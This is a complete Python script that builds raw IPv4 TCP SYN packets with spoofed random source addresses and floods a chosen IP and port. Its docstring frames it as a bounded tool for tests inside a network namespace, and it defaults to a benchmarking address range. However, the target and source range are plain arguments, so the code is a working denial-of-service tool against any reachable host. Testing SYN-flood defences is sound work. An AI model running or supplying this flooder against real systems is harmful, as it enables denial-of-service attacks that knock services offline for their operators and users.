#!/usr/bin/env python3
"""A bounded SYN flood from spoofed sources, for tests only (run it inside a
test's network namespace).

    synflood.py DST_IP DST_PORT COUNT SECONDS [SRC_NET]

Sends up to COUNT TCP SYNs to DST_IP:DST_PORT within SECONDS, each from a
random source address in SRC_NET (default 198.18.0.0/15, the benchmarking
range) and a random port, with a random ISN and the options of a Linux SYN.
Raw IPv4 socket with IP_HDRINCL; standard library only. Prints
"sent N seconds S" at the end.
"""
import ipaddress
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    dst, dport, count, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    net = ipaddress.ip_network(sys.argv[5] if len(sys.argv) > 5 else "198.18.0.0/15")
    base, size = int(net.network_address), net.num_addresses
    dst_b = socket.inet_aton(dst)
    # MSS 1460, SACK permitted, window scale 7 (NOP-padded).
    opts = bytes([2, 4, 0x05, 0xB4, 4, 2, 1, 1, 1, 3, 3, 7])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rnd = random.Random(0x5EED)
    sent, t0 = 0, time.monotonic()
    deadline = t0 + secs
    while sent < count:
        if sent % 256 == 0 and time.monotonic() > deadline:
            break
        src_b = struct.pack("!I", base + rnd.randrange(1, size - 1))
        sport = rnd.randrange(1024, 65536)
        tcp = struct.pack("!HHIIBBHHH", sport, dport, rnd.getrandbits(32), 0, 8 << 4, 0x02, 64240, 0, 0) + opts
        pseudo = src_b + dst_b + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), sent & 0xFFFF, 0, 64, 6, 0, src_b, dst_b)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        try:
            s.sendto(ip + tcp, (dst, 0))
        except OSError:
            # ENOBUFS when the device queue is full: back off a little.
            time.sleep(0.0005)
            continue
        sent += 1
    print("sent %d seconds %.2f" % (sent, time.monotonic() - t0), flush=True)


if __name__ == "__main__":
    main()
